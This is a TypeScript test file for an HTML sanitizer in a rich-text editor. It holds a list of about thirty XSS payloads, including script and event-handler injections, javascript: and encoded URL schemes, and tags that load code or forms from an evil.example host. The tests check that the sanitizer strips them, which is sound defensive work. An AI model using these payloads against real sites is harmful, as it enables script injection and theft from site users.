import { describe, expect, it } from 'vitest';
import { sanitizeRichText, textOfRichText } from './sanitize.ts';

// Payloads from the OWASP XSS filter evasion cheat sheet and the ones tiptap's HTML could carry.
const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://cdn.example/a.png" onerror="alert(1)">',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<iframe src="https://evil.example"></iframe>',
  '<body onload=alert(1)>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="x:expression(alert(1))">x</p>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<object data="https://evil.example/x.swf"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<form action="https://evil.example"><button>go</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<details open ontoggle=alert(1)>',
  '<p onclick="alert(1)">x</p>',
  '<<script>script>alert(1)<</script>/script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<img src="//evil.example/x.png">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
];

describe('sanitizeRichText', () => {
  it.each(XSS_PAYLOADS)('leaves nothing that runs in %s', (payload) => {
    const clean = sanitizeRichText(payload);
    expect(clean).not.toMatch(/<script|<iframe|<object|<embed|<svg|<form|<input|<style|<meta|<base|<link|<body/i);
    expect(clean).not.toMatch(/\son\w+\s*=/i);
    expect(clean).not.toMatch(/javascript:|vbscript:|data:|expression\(/i);
    expect(clean).not.toMatch(/\sstyle\s*=/i);
  });

  it('keeps what the editor makes', () => {
    const html =
      '<h2>Moving in</h2><p><strong>Bold</strong>, <em>italic</em>, <u>underlined</u>, <s>struck</s> and ' +
      '<a href="https://example.com/guide" target="_blank">a link</a>.</p><ul><li>one</li></ul><ol><li>two</li></ol>' +
      '<blockquote><p>quoted</p></blockquote><img src="/api/media/1.webp" alt="Kitchen" width="800" height="600">' +
      '<table><tbody><tr><th colspan="2">Fees</th></tr><tr><td>Rent</td><td>$1,200</td></tr></tbody></table>';
    const clean = sanitizeRichText(html);
    expect(clean).toContain('<h2>Moving in</h2>');
    expect(clean).toContain('<a href="https://example.com/guide" target="_blank" rel="noopener noreferrer nofollow">');
    expect(clean).toContain('<img src="/api/media/1.webp" alt="Kitchen" width="800" height="600" />');
    expect(clean).toContain('<th colspan="2">Fees</th>');
    expect(clean).toContain('<blockquote><p>quoted</p></blockquote>');
  });

  it('keeps the text of markup it does not allow, but not of scripts', () => {
    expect(sanitizeRichText('<p><font color="red">warm</font> welcome<script>steal()</script></p>')).toBe(
      '<p>warm welcome</p>',
    );
  });

  it('answers empty for markup with no content', () => {
    expect(sanitizeRichText('<p> </p><p><br></p>')).toBe('');
    expect(sanitizeRichText('<script>alert(1)</script>')).toBe('');
  });
});

describe('textOfRichText', () => {
  it('reads the words, a space between blocks', () => {
    expect(textOfRichText('<h2>Title</h2><p>First &amp; <strong>second</strong></p><p>third</p>')).toBe(
      'Title First & second third',
    );
  });
});
